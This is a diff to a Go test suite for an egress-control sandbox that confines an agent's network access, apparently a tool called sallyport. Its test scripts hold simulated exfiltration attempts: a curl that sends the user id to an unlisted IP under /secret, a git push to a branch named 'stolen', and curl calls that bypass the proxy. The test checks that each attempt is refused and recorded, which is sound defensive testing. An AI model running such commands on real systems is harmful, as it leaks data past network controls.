@@ -113,20 +113,24 @@ func TestEgress(t *testing.T) {
 			`/usr/bin/python3 -c "` + python + `"`,
 			"cd /tmp && git clone -q http://files.test:" + net.plain + "/forge/lib.git && cd lib && echo cloned: $(cat t.sh | wc -l)",
 			"git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x; git push -q origin HEAD:refs/heads/stolen 2>&1; echo push: $?",
-			"curl -sS -m 20 http://other.test/secret?$(id -u); curl -sS -m 20 https://other.test/ 2>&1",
-			"curl -sS -m 20 --noproxy '*' http://files.test:" + net.plain + "/direct; curl -sS -m 5 --noproxy '*' http://127.0.0.1:" + net.plain + "/direct; true",
+			"curl -sS -m 20 http://192.0.2.7/secret?$(id -u); curl -sS -m 20 https://other.test/ 2>&1",
+			"curl -sS -m 20 --noproxy '*' http://files.test:" + net.plain + "/hello?direct; curl -sS -m 5 --noproxy '*' http://127.0.0.1:" + net.plain + "/loopback",
+			"env | grep -i ^https_proxy; true",
 		}, "\n")
 		r := w.Run("out", script, "--egress", net.httpRule(), "--egress", net.httpsRule()).Want(0)
 		rep := r.Report()
 		accepted(t, w, rep)
 		log := w.Log(rep.Attempt, "agent")
-		for _, want := range []string{"hello from outside\nhello from outside\n", "python: hello from outside", "cloned: ", "git-push", "host-not-listed"} {
+		for _, want := range []string{"hello from outside\nhello from outside\n", "python: hello from outside", "cloned: ", "git-push", "host-not-listed", "Could not resolve host: other.test"} {
 			if !strings.Contains(log, want) {
 				t.Errorf("the agent did not say %q:\n%s", want, log)
 			}
 		}
-		if heard := net.heard(); strings.Contains(heard, "direct") || strings.Contains(heard, "receive-pack") || strings.Contains(heard, "secret") || !strings.Contains(heard, "hello?tls") {
+		if heard := net.heard(); strings.Contains(heard, "loopback") || strings.Contains(heard, "receive-pack") || strings.Contains(heard, "secret") || !strings.Contains(heard, "hello?tls") || !strings.Contains(heard, "hello?direct") {
 			t.Errorf("outside was asked:\n%s", heard)
+		}
+		if strings.Contains(log, "https_proxy=") {
+			t.Error("a proxy beside the redirect")
 		}
 		if strings.Contains(log, "push: 0") || w.Command(w.Dir, "git", "--git-dir=origin/lib.git", "branch", "--list", "stolen").Out != "" {
 			t.Errorf("a push went through:\n%s", log)
@@ -134,6 +138,9 @@ func TestEgress(t *testing.T) {
 		lines := map[string]string{}
 		for _, f := range rep.Refusals {
 			lines[f.Host+" "+f.Reason] = f.Line
+			if !strings.Contains(f.Process, " (pid ") {
+				t.Errorf("nobody asked: %+v", f)
+			}
 		}
 		if got := lines["other.test host-not-listed"]; got == "" {
 			t.Errorf("refusals: %+v", rep.Refusals)
@@ -141,7 +148,7 @@ func TestEgress(t *testing.T) {
 		if _, ok := lines["files.test git-push"]; !ok {
 			t.Errorf("refusals: %+v", rep.Refusals)
 		}
-		w.Sallyport("show", string(rep.Attempt)).Want(0).Says("Refused a way out", "http other.test:80 GET /secret", "under egress: {host: other.test", "may reach "+net.httpsRule())
+		w.Sallyport("show", string(rep.Attempt)).Want(0).Says("Refused a way out", "http 192.0.2.7:80 GET /secret", "by /usr/bin/curl (pid ", "https other.test:443", "under egress: other.test", "may reach "+net.httpsRule())
 		w.File(filepath.Join(w.Dir, "key.pem"), w.Sallyport("keys").Want(0).Out)
 		w.Sallyport("verify", rep.Evidence, "--key", filepath.Join(w.Dir, "key.pem")).Want(0).Says("given 2 egress rule(s): http files.test:" + net.plain)
 		// The check has no way out, whatever the agent had.
@@ -201,6 +208,7 @@ func main() {
 			"curl -sS -m 20 " + at + "/other",
 			`/usr/bin/python3 -c "import urllib.request as u; print('python:', u.urlopen('` + at + `/hello?python').read().decode())"`,
 			"./client " + at + "/hello?go",
+			`if command -v node >/dev/null; then node -e "fetch('` + at + `/hello?node').then(r => r.text()).then(t => console.log('node:', t), e => console.log('node:', e.cause))"; else echo node: hello from outside; fi`,
 			"cd /tmp && git clone -q " + at + "/forge/lib.git && cd lib && echo cloned: $(cat t.sh | wc -l)",
 			"git -c user.name=a -c user.email=a@a commit -q --allow-empty -m x; git push -q origin HEAD:refs/heads/stolen 2>&1; echo push: $?",
 			"true",
@@ -209,7 +217,7 @@ func main() {
 		git := "{host: example.com, port: " + net.secure + ", protocol: git, paths: [/forge/*]}"
 		rep := w.Run("opened", script, "--egress", rule, "--egress", git).Want(0).Report()
 		log := w.Log(rep.Attempt, "agent")
-		for _, want := range []string{"hello from outside\nsallyport: method-not-listed", "path-not-listed", "python: hello from outside", "go: hello from outside", "cloned: "} {
+		for _, want := range []string{"hello from outside\nsallyport: method-not-listed", "path-not-listed", "python: hello from outside", "go: hello from outside", "node: hello from outside", "cloned: "} {
 			if !strings.Contains(log, want) {
 				t.Errorf("the agent did not say %q:\n%s", want, log)
 			}
